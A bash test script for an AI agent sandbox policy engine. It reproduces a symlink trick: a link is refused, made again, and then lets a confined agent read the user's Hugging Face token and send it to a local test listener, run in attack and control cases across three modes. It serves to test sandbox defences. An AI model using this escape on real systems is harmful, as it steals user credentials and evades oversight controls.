#!/bin/bash
# A symlink refused for the names it gives below a linked directory leaves those names
# learned; the same symlink made again learns nothing new, so nothing is decided and
# the link stays. The policy (hf.claw) denies reading the Hugging Face token (EACCES):
# the agent's held ws/hf/token then reads the token the user's tool writes.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.78.8.2
D=$R8/refused-link-made-again; W=$D/ws H=$D/home; P=$R8/dir-link-renamed-into-place
$ROOT/target/debug/clawc compile $D/hf.claw -o $D/hf.bin 2>/dev/null || { echo "compile failed"; exit 1; }
outside() { # the user's tool: `huggingface-cli login` writing the token (no mkdir)
  for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; sleep 0.3
  printf "hf_USER-TOKEN-$1\n" > $H/.cache/huggingface/token && echo "user's token written through ~/.cache/huggingface -> $(readlink $H/.cache/huggingface)"; }
try() { # try NAME MODE CFG
  rm -rf $W $H; mkdir -p $W/hf $H/.cache; gcc -O1 -o $W/namelink $P/namelink.c; echo agent-placeholder > $W/hf/token
  listen $IP $D/out-$1.txt; outside $1 & CPID=$!
  local env="" mode=isolated; case $3 in kopens) env=CLAWLESS_KERNEL_OPENS=1;; mediated) mode=mediated;; esac
  (cd $W && env -u XDG_CACHE_HOME HOME=$H PATH=/usr/bin:/bin $env timeout 60 $CLAW exec --policy $D/hf.bin --mode $mode --workspace $W -- ./namelink $IP $W/hf $H/.cache/huggingface 2 $2) 2>&1 | grep -v "watcher armed"
  wait $CPID; verdict $D/out-$1.txt hf_USER-TOKEN; }
for cfg in ${CFGS:-mediated isolated kopens}; do
  echo "==== $cfg: attack (refused, then the same symlink again)"; try twice-$cfg twice $cfg
  echo "==== $cfg: control (refused once, not tried again)"; try plain-$cfg plain $cfg
done
